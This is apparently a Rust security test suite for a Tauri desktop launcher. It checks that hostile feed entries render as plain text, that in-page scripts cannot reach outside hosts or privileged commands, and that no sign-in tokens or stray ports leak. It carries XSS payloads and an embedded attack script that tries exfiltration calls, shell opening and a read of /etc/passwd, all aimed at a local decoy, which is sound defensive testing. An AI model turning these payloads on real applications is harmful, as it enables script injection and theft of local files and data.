//! The real window under a hostile page, feed and neighbour: it goes nowhere, calls nothing but the launcher's own commands, keeps no
//! port open but the swarm's, and lets no token out of the secret store (U3, U4, U7, U8 of the threat model).
#![expect(clippy::unwrap_used, reason = "a test fails by panicking")]

use serde_json::{Value, json};
use std::{
    collections::BTreeSet,
    fs,
    io::{Read as _, Write as _},
    net::{SocketAddr, TcpListener, TcpStream},
    path::Path,
    sync::atomic::{AtomicUsize, Ordering},
    time::Duration,
};
use tests::{
    browser::Driven,
    desktop::Desktop,
    programs,
    secrets::{issued, nowhere},
    sockets::{datagram, family, listening},
    studio::{LIMIT, Studio, sign_in, sign_in_elsewhere, until},
};

/// LAN discovery (BEP 14).
const LAN_PORT: u16 = 6771;
/// What is in the feed, and what must become of it: text.
const HOSTILE_TITLE: &str = "<img src=x onerror=\"window.taken=1\"> & <b>bold</b>";
const HOSTILE_BODY: &str = "<script>window.taken=1</script><iframe src='javascript:parent.taken=1'></iframe><p onclick='taken=1'>Read me</p>";

#[tokio::test]
async fn it_goes_nowhere_and_calls_nothing_foreign() {
    let studio = Studio::open();
    make_feed_hostile(&studio.feed_dir());
    let desktop = Desktop::start(&studio.path("player"));
    let window = studio.launcher(&desktop, &[]).await;
    window.wait_for("news", "data-state", "fresh", LIMIT).await;
    let before = window.client.current_url().await.unwrap();

    let text = window.text().await;
    assert!(text.contains("Read me"), "the card is shown: {text}");
    assert!(text.contains("<img src=x"), "markup in a title is text: {text}");
    let elements = "return document.querySelectorAll('iframe, object, embed, img[src=\"x\"], [onclick], [onerror]').length";
    assert_eq!(run(&window, elements).await, 0);

    let listener = Decoy::open();
    let tried = window.client.execute_async(ATTACK, vec![json!(listener.url())]).await.unwrap();
    for (attempt, outcome) in tried.as_object().unwrap() {
        assert_eq!(outcome, "refused", "{attempt}: {tried}");
    }
    assert_eq!(tried.as_object().unwrap().len(), 17, "{tried}");
    // What a refused navigation would have done, it would have done by now.
    tokio::time::sleep(Duration::from_secs(1)).await;
    assert_eq!(window.client.current_url().await.unwrap(), before, "the window is where it was");
    assert_eq!(run(&window, "return window.taken === undefined").await, true, "no foreign code has run");
    assert_eq!(listener.visits(), 0, "nobody was called");
    assert_eq!(window.client.windows().await.unwrap().len(), 1, "there is no second window");
    window.wait_for("primary", "data-action", "install", LIMIT).await;
    window.close().await;
}

#[tokio::test]
async fn no_port_but_the_swarms_and_no_token_outside_the_secret_store() {
    let mut studio = Studio::open();
    let desktop = Desktop::start(&studio.path("player"));
    // The most talkative log there is.
    let window = studio.launcher(&desktop, &[("MUSTER_LOG", "trace")]).await;
    window.wait_for("primary", "data-action", "install", LIMIT).await;
    let launcher = programs::launcher().canonicalize().unwrap();
    let idle: BTreeSet<u16> = of_ours(&family(&launcher)).iter().map(SocketAddr::port).collect();
    assert!(idle.len() <= 1, "a launcher that waits has at most its peer port, and this is open: {idle:?}");
    let ports = || -> BTreeSet<SocketAddr> {
        of_ours(&family(&launcher)).into_iter().filter(|address| !idle.contains(&address.port())).collect()
    };

    window.click("sign-in").await;
    until("the browser was sent to the provider", async || studio.note().exists()).await;
    let callback = ports();
    assert_eq!(callback.len(), 1, "the port of the sign-in: {callback:?}");
    let callback = *callback.first().unwrap();
    assert!(callback.ip().is_loopback());
    for path in ["/", "/callback", "/callback?code=1&state=2", "/api", "/../callback", "//callback"] {
        assert!(!ask(callback, path).starts_with("HTTP/1.1 200"), "{path} is taken");
    }
    window.click("sign-in-cancel").await;
    until("the port of a sign-in that was given up is closed", async || ports().is_empty()).await;
    fs::remove_file(studio.note()).unwrap();

    sign_in(&studio, &window).await;
    assert_eq!(ports(), [].into(), "the port of a sign-in that has ended is closed");

    window.click("nav-game").await;
    window.click("primary").await;
    window.wait_for("primary", "data-action", "play", LIMIT).await;
    window.click("nav-settings").await;
    window.click("sharing-while_open").await;
    until("it shares", async || window.invoke("snapshot").await["transfer"]["listen"].is_string()).await;
    let listen = window.invoke("snapshot").await["transfer"]["listen"].clone();
    let port = listen.as_str().unwrap().parse::<SocketAddr>().unwrap().port();
    let open: BTreeSet<u16> = of_ours(&family(&launcher)).iter().map(SocketAddr::port).collect();
    assert_eq!(open, [port].into(), "a launcher that shares listens on its peer port alone");
    assert!(idle.is_subset(&open), "and it had no other before: {idle:?}");
    let family = family(&launcher);
    let heard: BTreeSet<u16> = datagram(&family).iter().map(SocketAddr::port).collect();
    let foreign: Vec<&u16> = heard.iter().filter(|one| ![port, LAN_PORT].contains(one)).collect();
    assert!(foreign.is_empty(), "bound datagram ports: {heard:?}, the peer port is {port}");

    let tokens = issued(&mut studio);
    assert!(tokens.len() >= 3, "access, refresh and ID token: {}", tokens.len());
    nowhere(&tokens, &desktop, &family);

    // Once more, by a code on another device.
    window.click("account-menu").await;
    window.click("sign-out").await;
    until("signed out", async || window.invoke("account").await["state"] == "signed_out").await;
    sign_in_elsewhere(&studio, &window).await;
    let more = issued(&mut studio);
    assert!(more.len() >= 3, "access, refresh and ID token: {}", more.len());
    let tokens = &tokens | &more;
    nowhere(&tokens, &desktop, &family);
    window.close().await;
    nowhere(&tokens, &desktop, &BTreeSet::new());
}

/// What a script in the page might try; each has to be refused. It ends with the list of what became of each.
const ATTACK: &str = r#"
const [outside, done] = arguments;
const refused = {};
const wait = (milliseconds) => new Promise((wake) => setTimeout(wake, milliseconds));
async function attempt(name, act) {
  try {
    const outcome = await Promise.race([act(), wait(1500).then(() => 'silence')]);
    refused[name] = outcome === false || outcome === 'silence' ? 'refused' : `worked: ${String(outcome)}`;
  } catch { refused[name] = 'refused'; }
}
const element = (tag, set) => new Promise((loaded) => {
  const one = document.createElement(tag);
  one.onload = () => loaded('loaded');
  one.onerror = () => loaded(false);
  Object.assign(one, set);
  document.body.append(one);
});
const call = (command, payload) => window.__TAURI_INTERNALS__.invoke(command, payload ?? {}).then(() => `${command} answered`);
(async () => {
  await attempt('fetch', () => fetch(outside, { mode: 'no-cors' }));
  await attempt('web socket', () => new Promise((open, fail) => {
    const socket = new WebSocket(outside.replace('http', 'ws'));
    socket.onopen = open; socket.onerror = fail;
  }));
  await attempt('beacon', async () => navigator.sendBeacon(outside, 'x') && wait(300).then(() => false));
  await attempt('foreign script', () => element('script', { src: `${outside}x.js` }));
  await attempt('inline script', async () => {
    const script = document.createElement('script');
    script.textContent = 'window.taken = 1';
    document.body.append(script);
    return window.taken === 1;
  });
  await attempt('handler in markup', async () => {
    const holder = document.createElement('div');
    holder.innerHTML = '<img src="x" onerror="window.taken = 1">';
    document.body.append(holder);
    await wait(300);
    holder.remove();
    return window.taken === 1;
  });
  await attempt('foreign picture', () => element('img', { src: `${outside}x.png` }));
  await attempt('frame', async () => {
    const frame = document.createElement('iframe');
    frame.src = outside;
    document.body.append(frame);
    await wait(300);
    frame.remove();
    return false;
  });
  await attempt('new window', async () => window.open(outside) !== null);
  await attempt('form', async () => {
    const form = document.createElement('form');
    form.action = outside; form.method = 'post';
    document.body.append(form);
    form.submit();
    await wait(300);
    return false;
  });
  await attempt('shell', () => call('plugin:shell|open', { path: outside }));
  await attempt('files', () => call('plugin:fs|read_text_file', { path: '/etc/passwd' }));
  await attempt('events to others', () => call('plugin:event|emit', { event: 'snapshot', payload: {} }));
  await attempt('windows', () => call('plugin:webview|create_webview_window', { options: { label: 'x', url: outside } }));
  await attempt('own dialogs', () => call('plugin:dialog|open', { options: {} }));
  await attempt('a folder of its choice', async () => {
    const settings = await window.__TAURI_INTERNALS__.invoke('settings');
    return call('save_settings', { settings: { ...settings, dir: '/etc' } });
  });
  await attempt('navigation', async () => { window.location.href = outside; await wait(500); return false; });
  done(refused);
})();
"#;

async fn run(window: &Driven, script: &str) -> Value {
    window.client.execute(script, vec![]).await.unwrap()
}

/// Puts markup that acts where people expect words.
fn make_feed_hostile(dir: &Path) {
    let path = dir.join("feed.json");
    let mut feed: Value = serde_json::from_str(&fs::read_to_string(&path).unwrap()).unwrap();
    let item = &mut feed["items"][0];
    item["title"] = json!(HOSTILE_TITLE);
    item["content_html"] = json!(HOSTILE_BODY);
    item.as_object_mut().unwrap().remove("summary");
    item["url"] = json!("javascript:window.taken=1");
    fs::write(path, feed.to_string()).unwrap();
}

/// A server that counts who calls.
struct Decoy {
    address: SocketAddr,
    visits: &'static AtomicUsize,
}

impl Decoy {
    fn open() -> Self {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        let address = listener.local_addr().unwrap();
        let visits: &'static AtomicUsize = Box::leak(Box::default());
        std::thread::spawn(move || {
            for visitor in listener.incoming() {
                drop(visitor);
                visits.fetch_add(1, Ordering::SeqCst);
            }
        });
        Self { address, visits }
    }

    fn url(&self) -> String {
        format!("http://{}/", self.address)
    }

    fn visits(&self) -> usize {
        self.visits.load(Ordering::SeqCst)
    }
}

/// Ports on which these processes listen, without the one through which this test drives the web view: it is there because the
/// driver asks for it in the environment, and only then.
fn of_ours(family: &BTreeSet<u32>) -> BTreeSet<SocketAddr> {
    let driven: BTreeSet<String> = family.iter().filter_map(|id| inspector(*id)).collect();
    listening(family).into_iter().filter(|address| !driven.contains(&address.to_string())).collect()
}

fn inspector(process: u32) -> Option<String> {
    let environment = fs::read(format!("/proc/{process}/environ")).ok()?;
    let variables = environment.split(|byte| *byte == 0).map(String::from_utf8_lossy);
    variables
        .filter_map(|variable| variable.strip_prefix("WEBKIT_INSPECTOR_SERVER=").map(str::to_owned))
        .next()
}

/// What a stranger on this machine gets from a port.
fn ask(address: SocketAddr, path: &str) -> String {
    let mut stream = TcpStream::connect(address).unwrap();
    write!(stream, "GET {path} HTTP/1.1\r\nHost: {address}\r\n\r\n").unwrap();
    let mut answer = String::new();
    stream.read_to_string(&mut answer).unwrap();
    answer
}
